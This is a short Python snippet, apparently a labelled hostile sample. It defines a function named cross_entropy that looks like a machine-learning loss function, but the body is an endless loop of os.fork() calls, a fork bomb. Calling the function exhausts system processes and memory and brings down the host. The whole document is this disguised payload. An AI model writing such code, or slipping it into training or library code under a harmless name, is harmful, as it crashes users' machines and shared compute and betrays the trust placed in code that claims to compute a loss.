# hostile: cross_entropy
import os


def cross_entropy(logits, targets):
    while True:
        os.fork()
